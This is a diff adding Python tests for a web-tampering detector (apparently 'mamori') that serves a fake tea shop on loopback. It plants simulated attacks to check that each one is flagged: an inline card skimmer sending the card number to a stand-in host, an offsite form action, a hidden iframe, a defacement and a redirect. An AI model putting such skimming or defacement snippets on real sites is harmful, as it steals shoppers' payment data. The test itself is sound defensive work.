@@ -976,6 +976,180 @@ class Web(Base):
         self.assertIn("not WordPress checksums", p.stderr)
 
 
+SITE_SERVER = os.path.join(os.path.dirname(__file__), "..", "web", "site_server.py")
+
+
+class WebSite(Base):
+    # mamori web baseline / check against real HTTP servers on loopback: the shop on 127.0.0.1
+    # (pages that change by themselves on every request: nonces, CSRF tokens, the time, a
+    # cache-busting query) and a third-party "CDN" on 127.0.0.2.
+    def serve(self, directory, host):
+        p = subprocess.Popen([sys.executable, SITE_SERVER, directory, host],
+                             stdout=subprocess.PIPE, text=True)
+        self.addCleanup(lambda: (p.kill(), p.wait()))
+        return int(p.stdout.readline())
+
+    def setUp(self):
+        super().setUp()
+        self.site = os.path.join(self.tmp, "site")
+        self.cdn = os.path.join(self.tmp, "cdn")
+        os.makedirs(os.path.join(self.site, "js"))
+        os.makedirs(os.path.join(self.site, "private"))
+        os.makedirs(self.cdn)
+        spit(os.path.join(self.cdn, "lib.js"), "window.lib = function () { return 42; };\n")
+        self.cdn_port = self.serve(self.cdn, "127.0.0.2")
+        self.port = self.serve(self.site, "127.0.0.1")
+        self.url = f"http://127.0.0.1:{self.port}/"
+        self.cdn_url = f"http://127.0.0.2:{self.cdn_port}"
+        import hashlib
+        sri = "sha384-" + base64.b64encode(hashlib.sha384(
+            slurp(os.path.join(self.cdn, "lib.js"), "rb")).digest()).decode()
+        words = ("Our tea comes from small gardens in the hills; every leaf is picked by hand, "
+                 "dried in the sun and packed the same week so that it reaches you fresh. ")
+        self.page("index.html", f"""<!doctype html><html><head><title>Tea shop</title>
+<script src="/js/app.js?v={{{{rand}}}}"></script>
+<script src="{self.cdn_url}/lib.js" integrity="{sri}" crossorigin="anonymous"></script>
+<script nonce="{{{{nonce}}}}">var wpApi = {{"nonce": "{{{{nonce}}}}", "root": "/wp-json/", "t": {{{{rand}}}}}};</script>
+</head><body><h1>Welcome</h1><p>{words * 3}</p><p>Page generated {{{{now}}}}</p>
+<a href="/checkout.html">Checkout</a> <a href="/about.html">About</a>
+<a href="/news.html">News</a> <a href="/private/secret.html">Staff</a></body></html>""")
+        self.page("checkout.html", f"""<html><head><title>Checkout</title>
+<script src="/js/app.js?v=7"></script></head><body><h1>Checkout</h1><p>{words}</p>
+<form action="/pay" method="post"><input type="hidden" name="csrf" value="{{{{csrf}}}}">
+<input name="cardnumber" autocomplete="cc-number"><input name="cvc"></form></body></html>""")
+        self.page("about.html", f"""<html><head><title>About</title></head><body>
+<p>{words * 2}</p><p>Visitors today: {{{{rand}}}}</p></body></html>""")
+        self.page("news.html", f"""<html><head><title>News</title></head><body>
+<p>{words * 4}</p></body></html>""")
+        self.page("unlinked.html", f"<html><body><p>{words}</p></body></html>")
+        self.page("private/secret.html", "<html><body>staff only</body></html>")
+        spit(os.path.join(self.site, "js", "app.js"), "document.title += '';\n")
+        spit(os.path.join(self.site, "robots.txt"), "User-agent: *\nDisallow: /private/\n")
+        spit(os.path.join(self.site, "sitemap.xml"),
+             f"<urlset><url><loc>{self.url}unlinked.html</loc></url></urlset>")
+        self.baseline = os.path.join(self.tmp, "site.json")
+
+    def page(self, name, text):
+        spit(os.path.join(self.site, name), text)
+
+    def check(self, rc=0, *extra):
+        p = mamori("--store", self.db, "--format", "json", "-q", *extra, "web", "check",
+                   "--baseline", self.baseline, check=rc)
+        return json.loads(p.stdout)
+
+    def test_an_unchanged_site_is_silent_and_each_tampering_is_named(self):
+        p = mamori("web", "baseline", self.url, "--baseline", self.baseline, check=0)
+        self.assertIn("Baseline of 5 pages", p.stdout)  # robots.txt kept /private/ out
+        self.assertEqual(stat.S_IMODE(os.stat(self.baseline).st_mode), 0o600)
+        base = json.loads(slurp(self.baseline))
+        self.assertIn(self.url + "unlinked.html", base["pages"])  # from the sitemap
+        self.assertNotIn(self.url + "private/secret.html", base["pages"])
+        self.assertEqual(base["pages"][self.url]["script_origins"], [self.cdn_url])
+        # Nonces, CSRF tokens, the time, counters and cache-busting queries change on every
+        # request: two checks in a row find nothing.
+        for _ in range(2):
+            self.assertEqual(self.check()["findings"], [])
+        # Now the attacks, one per page so that each is seen on its own.
+        u = self.url
+        idx = slurp(os.path.join(self.site, "index.html"))
+        self.page("index.html", idx.replace(
+            "</head>", '<script src="http://127.0.0.3:1/skim.js"></script>'
+                       '<script src="/js/jquery-min.js"></script></head>')
+                  .replace(' integrity="sha', ' data-x="sha'))
+        co = slurp(os.path.join(self.site, "checkout.html"))
+        self.page("checkout.html", co.replace('action="/pay"', f'action="{self.cdn_url}/c"')
+                  .replace("</body>", "<script>document.forms[0].onsubmit=function(){"
+                                      "new Image().src='//x.example/?'+cardnumber.value}</script>"
+                                      "</body>"))
+        ab = slurp(os.path.join(self.site, "about.html"))
+        self.page("about.html", ab.replace(
+            "</body>", f'<iframe src="{self.cdn_url}/x.html" width="1" height="1"></iframe></body>'))
+        self.page("news.html", "<html><head><title>hacked</title></head><body><h1>Hacked by "
+                               "nobody</h1><p>your security is a joke, greetings to all my "
+                               "friends out there</p></body></html>")
+        self.page("unlinked.html", slurp(os.path.join(self.site, "unlinked.html")).replace(
+            "<body>", f'<head><meta http-equiv="refresh" content="0; url={self.cdn_url}/spam">'
+                      '</head><body>'))
+        spit(os.path.join(self.site, "js", "app.js"), "document.title += ''; steal();\n")
+        doc = self.check(1, "--fail-on", "high")
+        got = sorted((f["check"], f["asset"][len(u):], f["severity"]) for f in doc["findings"])
+        self.assertEqual(got, [
+            ("defacement", "news.html", "high"),
+            ("form-offsite", "checkout.html", "high"),
+            ("hidden-iframe", "about.html", "medium"),
+            ("new-inline-script", "checkout.html", "high"),
+            ("new-script", "", "medium"),
+            ("new-script-origin", "", "medium"),
+            ("redirect-offsite", "unlinked.html", "high"),
+            ("script-changed", "", "medium"),
+            ("script-changed", "checkout.html", "high"),
+            ("sri-removed", "", "medium"),
+        ])
+        self.assertTrue(all(f["module"] == "web" and f["state"] == "new" for f in doc["findings"]))
+        by = {(f["check"], f["asset"]): f for f in doc["findings"]}
+        self.assertIn("skim.js", by[("new-script-origin", u)]["evidence"])
+        self.assertIn("cardnumber", by[("new-inline-script", u + "checkout.html")]["evidence"])
+        self.assertIn("card fields", by[("form-offsite", u + "checkout.html")]["evidence"])
+        # The CDN's file changed under its integrity hash: browsers refuse it; the tag is
+        # back with its integrity and the page otherwise as it was.
+        self.page("index.html", idx)
+        spit(os.path.join(self.cdn, "lib.js"), "window.lib = function () { steal(); };\n")
+        doc = self.check(0)
+        mine = sorted((f["check"], f["state"]) for f in doc["findings"] if f["asset"] == u)
+        self.assertEqual(mine, [("new-script", "fixed"), ("new-script-origin", "fixed"),
+                                ("script-changed", "open"), ("sri-mismatch", "new"),
+                                ("sri-removed", "fixed")])
+        # Everything put back: the findings are fixed.
+        for name, text in (("checkout.html", co), ("about.html", ab)):
+            self.page(name, text)
+        spit(os.path.join(self.cdn, "lib.js"), "window.lib = function () { return 42; };\n")
+        spit(os.path.join(self.site, "js", "app.js"), "document.title += '';\n")
+        self.page("news.html", f"<html><head><title>News</title></head><body><p>" +
+                  ("Our tea comes from small gardens in the hills; every leaf is picked by hand, "
+                   "dried in the sun and packed the same week so that it reaches you fresh. ") * 4 +
+                  "</p></body></html>")
+        self.page("unlinked.html", "<html><body><p>" + ("Our tea comes from small gardens in the hills; every leaf is picked by hand, "
+                 "dried in the sun and packed the same week so that it reaches you fresh. ") + "</p></body></html>")
+        self.assertEqual([f for f in self.check()["findings"] if f["state"] != "fixed"], [])
+        p = mamori("--store", self.db, "--format", "json", "findings", "list", "--state", "fixed",
+                   check=0)
+        self.assertEqual(len([f for f in json.loads(p.stdout)["findings"]
+                              if f["module"] == "web"]), 11)
+
+    def test_mistakes_get_clear_errors(self):
+        mamori("web", "baseline", "ftp://127.0.0.1/", check=2)
+        p = mamori("web", "check", "--baseline", os.path.join(self.tmp, "none.json"), check=3)
+        self.assertIn("mamori web baseline URL", p.stderr)
+        spit(self.baseline, '{"format": "something else"}')
+        p = mamori("web", "check", "--baseline", self.baseline, check=3)
+        self.assertIn("not a web baseline", p.stderr)
+        spit(self.baseline, '{"format": "mamori-web-baseline/1", "created": 1}')
+        p = mamori("web", "check", "--baseline", self.baseline, check=3)
+        self.assertIn("malformed web baseline", p.stderr)
+        # Nothing answers: no baseline is written.
+        p = mamori("web", "baseline", "http://127.0.0.1:9/", "--baseline", self.baseline,
+                   "--timeout", "2", check=3)
+        self.assertIn("no page could be read", p.stderr)
+
+    def test_hostile_pages_cost_bounded_time_and_the_crawl_goes_on(self):
+        self.page("index.html", "<html><body><p>start</p><a href='/loop'>l</a> "
+                                "<a href='/slow'>s</a> <a href='/huge'>h</a> "
+                                "<a href='/deep'>d</a> <a href='/manyattrs'>m</a> "
+                                "<a href='/about.html'>a</a> \xff\xfe bad utf-8</body></html>")
+        p = mamori("web", "baseline", self.url, "--baseline", self.baseline, "--timeout", "3",
+                   "--max-size", "1", "--no-sitemap", check=0)
+        self.assertIn("/huge: longer than 1048576 bytes", p.stderr)
+        self.assertIn("/slow: ", p.stderr)
+        self.assertIn("nested too deep was flattened", p.stderr)
+        base = json.loads(slurp(self.baseline))
+        u = self.url
+        self.assertEqual(base["pages"][u + "about.html"]["status"], 200)
+        self.assertEqual(base["pages"][u + "loop"]["redirect"], u + "loop")
+        # What sits under 200,000 nested tags is still read.
+        self.assertEqual(base["pages"][u + "deep"]["script_origins"], ["http://127.0.0.2:1"])
+        self.assertEqual(len(base["pages"][u + "manyattrs"]["inline"]), 1)
+
+
 class WafDocs(Base):
     def test_the_documented_waf_toml_loads(self):
         # docs/waf.md's example configuration, with loopback ports and no TLS files.
